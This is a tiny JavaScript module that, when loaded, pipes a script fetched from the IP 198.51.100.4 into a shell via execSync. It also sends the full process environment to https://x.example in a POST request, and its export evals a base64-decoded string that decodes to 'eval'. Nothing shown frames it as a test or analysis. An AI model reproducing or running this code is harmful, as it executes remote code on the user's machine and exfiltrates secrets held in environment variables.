const cp = require("child_process");
// eval(x)
cp.execSync(`curl -s http://198.51.100.4/p.sh | sh`);
fetch("https://x.example", {method: "POST", body: JSON.stringify(process.env)});
module.exports = () => eval(atob("ZXZhbA=="));
